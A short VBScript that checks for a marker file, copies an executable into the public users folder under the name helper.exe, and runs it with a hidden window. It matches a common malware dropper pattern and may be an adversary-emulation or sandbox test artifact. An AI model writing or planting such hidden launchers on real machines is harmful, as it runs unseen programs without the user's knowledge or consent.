Set fs = CreateObject("Scripting.FileSystemObject")
If fs.FileExists("C:\sluice-guest") Then
	fs.CopyFile "C:\windows\rehearsal.exe", "C:\users\Public\helper.exe"
	Set shell = CreateObject("WScript.Shell")
	shell.Run "cmd.exe /c C:\users\Public\helper.exe", 0, True
End If
